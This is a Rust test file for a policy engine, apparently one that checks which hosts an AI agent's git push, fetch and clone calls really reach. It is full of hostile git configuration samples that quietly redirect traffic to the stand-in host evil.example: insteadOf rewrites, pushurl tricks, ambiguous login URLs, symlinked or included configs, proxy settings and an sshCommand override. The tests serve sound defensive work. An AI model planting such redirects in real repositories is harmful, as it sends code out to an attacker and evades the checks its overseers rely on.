//! What an agent may write into a repository, beside the same repository without it: each part leads git elsewhere, and
//! the answer must not be that of the plain one.

use super::wire::{Wire, place};
use super::*;
use crate::facts::paths;
use ironcurtain_paths::Resolver;
use ironcurtain_policy::Annotations;
use serde_json::json;
use std::sync::Arc;

const GITHUB: &str = "https://github.com/acme/app";
const ORIGIN: &str = "[remote \"origin\"]\n\turl = https://github.com/acme/app\n";
const EVIL: &str = "[remote \"evil\"]\n\turl = https://evil.example/x\n";

/// One hostile part.
struct Part {
    what: &'static str,
    /// The configuration, without and with it.
    plain: &'static str,
    added: &'static str,
    /// Files and links that come with it.
    files: &'static [(&'static str, &'static str)],
    links: &'static [(&'static str, &'static str)],
    folder: &'static str,
    way: Way,
    raw: Option<&'static str>,
    /// What is said without it, and with it: addresses, or why they are not known.
    before: &'static str,
    after: &'static str,
}

/// A part that does nothing, to begin from.
const PART: Part = Part {
    what: "",
    plain: ORIGIN,
    added: "",
    files: &[],
    links: &[],
    folder: "repo",
    way: Way::Push,
    raw: None,
    before: GITHUB,
    after: "https://evil.example/x",
};

const EMPTY: &str = "(not known, because a remote has an empty address)";
const LEGACY: &str =
    "(not known, because the repository has remotes in files of their own, outside its configuration)";
const NOT_PLAIN: &str = "(not known, because the configuration of the repository is not in plain files)";
const NOT_UNDERSTOOD: &str =
    "(not known, because git does not understand the configuration of the repository)";
const FOREIGN: &str = "(not known, because the repository is of a format that not every git reads)";
const CONNECTED: &str = "(not known, because the configuration of the repository changes how git connects)";
const AMBIGUOUS: &str = "(not known, because programs may understand the address of the remote differently)";

const LISTS: &[Part] = &[
    Part {
        what: "an empty pushurl takes back those before it",
        plain: "[remote \"origin\"]\n\turl = https://evil.example/x\n\tpushurl = https://github.com/acme/app\n",
        added: "[remote \"origin\"]\n\tpushurl =\n",
        after: EMPTY,
        ..PART
    },
    Part {
        what: "an empty url makes the name the address",
        plain: "[remote \"https://evil.example/x\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"https://evil.example/x\"]\n\turl =\n",
        raw: Some("https://evil.example/x"),
        after: EMPTY,
        ..PART
    },
    Part {
        what: "of two replacements the first that is named counts",
        plain: "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
        raw: Some("gh:acme/app"),
        after: GITHUB,
        ..PART
    },
    Part {
        what: "and it is named by whatever it replaces",
        plain: "[url \"https://evil.example/\"]\n\tinsteadOf = zz:\n[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
        raw: Some("gh:acme/app"),
        after: "https://evil.example/acme/app",
        ..PART
    },
    Part {
        what: "what is looked up is what is sent: an address that is replaced",
        added: "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n",
        raw: Some("https://GITHUB.com/acme/app"),
        after: "https://evil.example/acme/app",
        ..PART
    },
    Part {
        what: "what is looked up is what is sent: an address that is a name",
        added: "[remote \"https://github.com/acme/app\"]\n\turl = https://evil.example/x\n",
        raw: Some("https://GITHUB.com/acme/app"),
        ..PART
    },
    Part {
        what: "a name that no remote has is an address like any other",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
        added: "[url \"https://evil.example/x\"]\n\tinsteadOf = gone\n",
        ..PART
    },
    Part {
        what: "a name that no remote has may be a folder",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
        files: &[("repo/gone.git/HEAD", "ref: refs/heads/main\n")],
        after: "gone",
        ..PART
    },
    Part {
        what: "a path is never the name of a remote",
        plain: "[remote \"there\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"/there\"]\n\turl = https://github.com/acme/app\n",
        way: Way::Fetch,
        raw: Some("/there"),
        before: "/there",
        after: "/there",
        ..PART
    },
    Part {
        what: "the words of a group are parted by plain blanks",
        plain: "[remote \"a\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = \"a a\"\n",
        added: "[remote \"a\u{a0}a\"]\n\turl = https://evil.example/x\n[remotes]\n\tgrp = a\u{a0}a\n",
        way: Way::Fetch,
        raw: Some("grp"),
        after: "https://github.com/acme/app https://evil.example/x",
        ..PART
    },
    Part {
        what: "a group of one is a remote by its own name",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = origin origin\n",
        added: "[remotes]\n\tother = origin\n[url \"https://evil.example/x\"]\n\tinsteadOf = grp\n",
        way: Way::Fetch,
        raw: Some("grp"),
        after: "https://github.com/acme/app https://evil.example/x",
        ..PART
    },
    Part {
        what: "an option is no address",
        added: "[url \"https://github.com/acme/app\"]\n\tinsteadOf = --repo=evil\n",
        raw: Some("--repo=evil"),
        before: "--repo=evil",
        after: "--repo=evil",
        ..PART
    },
    Part {
        what: "a login ends at a question mark",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = https://evil.example?@github.com/acme/app\n",
        after: "https://evil.example?@github.com/acme/app",
        ..PART
    },
    Part {
        what: "a login ends at a number sign",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = \"https://evil.example#@github.com/acme/app\"\n",
        after: "https://evil.example#@github.com/acme/app",
        ..PART
    },
    Part {
        what: "programs do not agree about backslashes",
        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
        added: "[remote \"up\"]\n\tpushurl = \"https://github.com\\\\@evil.example/x\"\n",
        after: AMBIGUOUS,
        ..PART
    },
];

const FILES: &[Part] = &[
    Part {
        what: "remotes/NAME",
        files: &[("repo/.git/remotes/gone", "URL: https://evil.example/x\n")],
        after: LEGACY,
        ..PART
    },
    Part {
        what: "branches/NAME",
        files: &[("repo/.git/branches/gone", "https://evil.example/x\n")],
        after: LEGACY,
        ..PART
    },
    Part {
        what: "a name there that looks like an address",
        files: &[("repo/.git/remotes/github.com:z", "URL: https://evil.example/x\n")],
        raw: Some("github.com:z"),
        before: "github.com:z",
        after: LEGACY,
        ..PART
    },
    Part {
        what: "a HEAD that is a link",
        links: &[("repo/.git/HEAD", "refs/heads/main")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a branch that stands for another",
        files: &[("repo/.git/refs/heads/main", "ref: refs/heads/other\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a branch that is broken",
        files: &[("repo/.git/refs/heads/main", "nonsense\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a branch with a blank that only some strip",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"m\u{a0}\"]\n\tremote = evil\n",
        files: &[("repo/.git/HEAD", "ref: refs/heads/m\u{a0}\n")],
        ..PART
    },
    Part {
        what: "a branch of a name that git does not take",
        files: &[("repo/.git/HEAD", "ref: refs/heads/a b\n")],
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "worktree settings that only an include turns on or off",
        added: "[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = inc\n",
        files: &[
            ("repo/.git/inc", "[extensions]\n\tworktreeConfig = false\n"),
            ("repo/.git/config.worktree", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
        ],
        ..PART
    },
    Part {
        what: "a truth value that only git understands",
        added: "[extensions]\n\tworktreeConfig = 00\n",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "a repository of no plain version",
        added: "[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = -1\n",
        after: FOREIGN,
        ..PART
    },
    Part {
        what: "fetch.all, as only git understands it",
        way: Way::Fetch,
        added: "[fetch]\n\tall = 0x0\n",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "an include beside a link, not beside what it leads to",
        added: "[include]\n\tpath = inc\n",
        files: &[
            (
                "repo/conf/config",
                "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[include]\n\tpath = inc\n",
            ),
            ("repo/.git/inc", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
        ],
        links: &[("repo/.git/config", "../conf/config")],
        ..PART
    },
    Part {
        what: "an include by a way that does not exist",
        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = origin\n",
        added: "[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"main\"]\n\tremote = evil\n[include]\n\tpath = nowhere/../inc\n",
        files: &[("repo/.git/inc", "[branch \"main\"]\n\tremote = origin\n")],
        after: NOT_PLAIN,
        ..PART
    },
    Part {
        what: "a .git without a HEAD is none",
        plain: EVIL,
        folder: "repo/sub",
        files: &[("repo/sub/.git/config", ORIGIN)],
        before: "https://evil.example/x",
        ..PART
    },
    Part {
        what: "a folder that looks bare, with a HEAD that means nothing",
        files: &[
            ("repo/sub/HEAD", "x\n"),
            ("repo/sub/objects/x", ""),
            ("repo/sub/refs/x", ""),
            ("repo/sub/config", EVIL),
        ],
        folder: "repo/sub",
        after: NOT_UNDERSTOOD,
        ..PART
    },
    Part {
        what: "a bare repository that shares what is elsewhere",
        files: &[
            ("repo/sub/HEAD", "ref: refs/heads/main\n"),
            ("repo/sub/commondir", "../far\n"),
            ("repo/far/objects/x", ""),
            ("repo/far/refs/x", ""),
            ("repo/far/config", EVIL),
        ],
        folder: "repo/sub",
        ..PART
    },
];

const CONNECTIONS: [&str; 7] = [
    "[http]\n\tcurloptResolve = github.com:443:192.0.2.1\n",
    "[http]\n\tproxy = http://192.0.2.1:3128\n",
    "[http \"https://github.com/\"]\n\tproxy = http://192.0.2.1:3128\n",
    "[remote \"origin\"]\n\tproxy = http://192.0.2.1:3128\n",
    "[core]\n\tgitProxy = /bin/false\n",
    "[core]\n\tsshCommand = ssh -o HostName=evil.example\n",
    "[include]\n\tpath = inc\n",
];

fn check(part: &Part) {
    let person = Person::new();
    person.commit("repo");
    std::fs::create_dir_all(person.path("repo/sub").as_path()).unwrap();
    let ask = || person.ask(part.folder, part.way, part.raw, false).join(" ");
    person.config(part.plain);
    assert_eq!(ask(), part.before, "without it: {}", part.what);
    person.config(&format!("{}{}", part.plain, part.added));
    for (file, content) in part.files {
        person.file(file, content);
    }
    for (link, to) in part.links {
        person.link(link, to);
    }
    assert_eq!(ask(), part.after, "with it: {}", part.what);
    // Where that is an address, it is where git goes.
    let verb = if part.way == Way::Push { "push" } else { "fetch" };
    let sent = part.raw.map(address::sent);
    let arguments: Vec<&str> = [Some(verb), sent.as_deref()].into_iter().flatten().collect();
    let said: Vec<_> = part.after.split(' ').map(place).collect();
    if said.iter().all(Option::is_some) {
        let goes = Wire::new(&person).goes_to(part.folder, &arguments);
        assert!(
            !goes.is_empty() && goes.iter().all(|to| said.contains(to)),
            "{}: git goes to {goes:?}",
            part.what
        );
    }
}

#[test]
fn what_a_hostile_configuration_says_is_read_as_git_reads_it() {
    LISTS.iter().for_each(check);
}

#[test]
fn what_hostile_files_of_a_repository_say_is_read_as_git_reads_it_or_not_known() {
    FILES.iter().for_each(check);
}

#[test]
fn a_repository_that_changes_how_git_connects_is_not_known() {
    for added in CONNECTIONS {
        let files = &[("repo/.git/inc", "[http]\n\tproxy = http://192.0.2.1:3128\n")];
        check(&Part { what: added, added, files, after: CONNECTED, ..PART });
        check(&Part { what: added, added, files, after: CONNECTED, raw: Some(GITHUB), ..PART });
    }
}

#[test]
fn folders_of_a_repository_are_named_to_the_last_blank() {
    let person = Person::new();
    person.config(ORIGIN);
    let moved = person.path("repo").as_path().join("real ");
    std::fs::rename(person.path("repo/.git").as_path(), moved).unwrap();
    person.git(&["init", "-q", "--bare", "-b", "main", "repo/real"]);
    person.file("repo/real/config", EVIL);
    for (text, all) in [
        ("gitdir: real \n", GITHUB),
        ("gitdir: real\r\n", "https://evil.example/x"),
        ("gitdir:real \n", NOT_UNDERSTOOD),
        ("gitdir: nothing\n", NOT_UNDERSTOOD),
    ] {
        person.file("repo/.git", text);
        assert_eq!(person.push(None), [all], "{text:?}");
    }
    person.file("repo/tree/HEAD", "ref: refs/heads/main\n");
    person.file("repo/.git", "gitdir: tree\n");
    for (text, all) in [("../real \n", GITHUB), ("../real\n", "https://evil.example/x"), ("", NOT_PLAIN)] {
        person.file("repo/tree/commondir", text);
        assert_eq!(person.push(None), [all], "{text:?}");
    }
}

#[test]
fn a_clone_is_made_without_the_repository_around_it() {
    let person = Person::new();
    person.config("[url \"https://github.com/\"]\n\tinsteadOf = https://evil.example/\n");
    person.file(".gitconfig", "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n");
    let ask = |way, raw| person.ask("repo", way, Some(raw), false);
    assert_eq!(ask(Way::Clone, "https://evil.example/x"), ["https://evil.example/x"]);
    assert_eq!(ask(Way::Fetch, "https://evil.example/x"), ["https://github.com/x"]);
    assert_eq!(ask(Way::Clone, "gh:acme/app"), ["https://github.com/acme/app"], "the person's own counts");
    for (tool, way) in [
        ("git_clone", Way::Clone),
        ("cloneRepository", Way::Clone),
        ("clone_or_pull", Way::Fetch),
        ("git_push", Way::Push),
        ("git_ls_remote", Way::Either),
    ] {
        assert_eq!(Way::of(tool), way, "{tool}");
    }
}

#[test]
fn what_git_also_does_without_a_repository_is_judged_without_it_too() {
    let person = Person::new();
    person.config(&format!("{ORIGIN}[url \"https://github.com/\"]\n\tinsteadOf = https://evil.example/\n"));
    let ask = |way, raw| person.ask("repo", way, Some(raw), false);
    let both = ["https://github.com/x", "https://evil.example/x"];
    assert_eq!(ask(Way::Either, "https://evil.example/x"), both);
    assert_eq!(ask(Way::Either, "origin"), [GITHUB]);
    assert_eq!(ask(Way::Fetch, "https://evil.example/x"), both[..1]);
    // Git takes a repository of a version that it does not know for none, where it needs none.
    let version = "[core]\n\trepositoryformatversion = 9\n";
    person.file(
        "repo/.git/config",
        &format!("{version}[url \"https://github.com/\"]\n\tinsteadOf = https://evil.example/\n"),
    );
    let evil = "https://evil.example/x";
    let wire = Wire::new(&person);
    assert_eq!(wire.goes_to("repo", &["ls-remote", evil]), [place(evil)]);
    assert_eq!(wire.goes_to("repo", &["fetch", evil]), []);
    assert_eq!(ask(Way::Either, evil), [FOREIGN]);
}

#[test]
fn what_is_looked_up_is_what_is_sent() {
    let person = Person::new();
    person.link("link", "repo");
    let tool = json!({ "toolName": "git_push", "serverName": "git", "args": {
        "path": ["read-path"], "remote": ["git-remote-url"],
    } });
    let text = json!({ "servers": { "git": { "tools": [tool] } } }).to_string();
    let annotations = Annotations::from_json(&text, "tools").unwrap();
    let resolver = Resolver::new(person.path(""), person.path(""));
    for raw in
        ["origin", "https://GITHUB.com:443/acme/app/", " https://github.com/a", "GH:a", "ssh://A/b", "./x"]
    {
        let arguments = Arc::new(json!({ "path": "~/link/.", "remote": raw }).as_object().unwrap().clone());
        let plan = annotations.plan("git", "git_push", &arguments).unwrap();
        let found = paths(&plan, &Fact::Plain, |raw| resolver.resolve(raw)).unwrap();
        let question = RemoteQuestion::of(&plan, &found.paths).unwrap();
        let is_remote = |at: usize| plan.values()[at].is_remote();
        let known = Fact::Remotes(vec![GITHUB.to_owned()]);
        let facts = found.facts.into_iter().enumerate();
        let facts = facts.map(|(at, fact)| if is_remote(at) { known.clone() } else { fact });
        let call = plan.with_facts(facts).unwrap();
        let sent = |argument: &str| call.transport_arguments()[argument].as_str().unwrap().to_owned();
        let looked_up: Vec<_> = question.values.into_iter().map(|(_, value)| value).collect();
        assert_eq!(looked_up, [Some(sent("remote"))]);
        assert_eq!(question.repositories, [person.path("repo")]);
        assert_eq!(sent("path"), person.path("repo").as_str());
    }
}

#[test]
fn without_a_repository_an_address_is_known_only_for_a_clone() {
    let person = Person::new();
    let git = Git { person: person.path(""), in_sandbox: true };
    let ask = |way, raw: Option<&str>| {
        let question =
            RemoteQuestion { repositories: Vec::new(), way, values: vec![(3, raw.map(address::sent))] };
        question.answer(&git, &|_| true)
    };
    let known = vec![(3, Fact::Remotes(vec![GITHUB.to_owned()]))];
    assert_eq!(ask(Way::Clone, Some(GITHUB)), known);
    let unknown = "(not known, because the call does not say in which repository it works)";
    for way in [Way::Push, Way::Fetch, Way::Either] {
        for raw in [Some(GITHUB), Some("origin"), None] {
            assert_eq!(ask(way, raw), [(3, Fact::Remotes(vec![unknown.to_owned()]))], "{way:?} {raw:?}");
        }
    }
}
